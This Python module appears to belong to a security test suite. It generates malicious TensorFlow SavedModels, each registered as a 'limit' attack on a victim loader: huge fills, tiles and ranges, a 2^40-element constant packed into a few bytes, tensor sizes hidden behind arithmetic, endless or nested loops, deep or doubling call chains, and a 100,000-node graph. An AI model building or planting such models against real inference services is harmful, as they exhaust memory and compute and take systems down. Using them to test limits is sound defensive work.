"""Models that are too large, too deep or endless."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from .saving import chain_functions, edit, find_relu, replace_relu, save
from .table import Victim, attack


@attack("limit", "fills 256 GB")
def huge_fill(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    save(directory, lambda x: x + tf.reduce_sum(tf.fill([1 << 36], 1.0, name="evil")))


@attack("limit", "repeats a row to 2^31 elements")
def huge_tile(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    save(
        directory,
        lambda x: x + tf.reduce_max(tf.tile(x[:1], tf.constant([1, 1 << 29]), name="evil")),
    )


@attack("limit", "counts to 2^34")
def huge_range(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        numbers = tf.range(tf.constant(1 << 34, tf.int64), name="evil")
        return x + tf.cast(tf.reduce_max(numbers), tf.float32)

    save(directory, run)


@attack("limit", "hides the size of a tensor behind arithmetic")
def computed_fill(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        side = tf.reduce_prod(tf.constant([1024, 16], tf.int64)) * 4
        shape = tf.concat([[side], tf.stack([side, tf.constant(16, tf.int64)])], 0)
        return x + tf.reduce_sum(tf.fill(shape, 1.0, name="evil"))

    save(directory, run)


@attack("limit", "holds a constant of 2^40 elements in a few bytes")
def huge_constant(directory: Path, _: Victim) -> None:
    from tensorflow.core.framework import types_pb2

    def change(meta_graph: Any) -> None:
        function, _ = find_relu(meta_graph)
        node = replace_relu(meta_graph, "AddV2", "z")
        evil = function.node_def.add(name="evil_constant", op="Const")
        evil.attr["dtype"].type = types_pb2.DT_FLOAT
        value = evil.attr["value"].tensor
        value.dtype = types_pb2.DT_FLOAT
        value.tensor_shape.dim.add(size=1 << 38)
        value.tensor_shape.dim.add(size=4)
        value.float_val.append(1.0)
        node.input.append("evil_constant:output:0")

    edit(directory, change)


@attack("limit", "grows a tensor without end in a loop")
def growing_loop(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        (grown,) = tf.while_loop(
            lambda t: tf.size(t) >= 0,
            lambda t: (tf.concat([t, t], 0),),
            [tf.ones([1])],
            shape_invariants=[tf.TensorShape([None])],
            name="evil",
        )
        return x + tf.reduce_sum(grown)

    save(directory, run)


@attack("limit", "loops for ever over constants")
def endless_loop(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        (count,) = tf.while_loop(
            lambda n: n >= 0, lambda n: ((n * 3 + 1) % 7,), [tf.constant(0)], name="evil"
        )
        return x + tf.cast(count, tf.float32)

    save(directory, run)


@attack("limit", "loops for ever in a loop, up to a counter of the outer one")
def endless_inner_loop(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def turn(i: Any, total: Any) -> Any:
        (count,) = tf.while_loop(
            lambda n: n <= i, lambda n: (n * 2,), [tf.constant(0)], name="evil"
        )
        return i + 1, total + count

    def run(x: Any) -> Any:
        start = (tf.constant(0), tf.constant(0))
        _, total = tf.while_loop(lambda i, _: i < 9, turn, start, name="outer")
        return x + tf.cast(total, tf.float32)

    save(directory, run)


@attack("limit", "loops 25 million times in two loops, neither of which is long")
def long_nested_loops(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def turn(i: Any, total: Any) -> Any:
        (count,) = tf.while_loop(lambda n: n < i, lambda n: (n + 1,), [tf.constant(0)], name="evil")
        return i + 1, total + count

    def run(x: Any) -> Any:
        start = (tf.constant(0), tf.constant(0))
        _, total = tf.while_loop(lambda i, _: i < 5000, turn, start, name="outer")
        return x + tf.cast(total, tf.float32)

    save(directory, run)


@attack("limit", "nests 3000 calls")
def deep_calls(directory: Path, _: Victim) -> None:
    edit(directory, lambda meta_graph: chain_functions(meta_graph, 3000, 1))


@attack("limit", "doubles its calls 40 times")
def doubling_calls(directory: Path, _: Victim) -> None:
    edit(directory, lambda meta_graph: chain_functions(meta_graph, 40, 2))


@attack("limit", "has 100 000 nodes", node="")
def many_nodes(directory: Path, _: Victim) -> None:
    from tensorflow.core.framework import types_pb2

    def change(meta_graph: Any) -> None:
        function, node = find_relu(meta_graph)
        tensor = node.input[0]
        for number in range(100_000):
            added = function.node_def.add(name=f"evil_{number}", op="Neg", input=[tensor])
            added.attr["T"].type = types_pb2.DT_FLOAT
            tensor = f"evil_{number}:y:0"
        node.input[0] = tensor

    edit(directory, change)
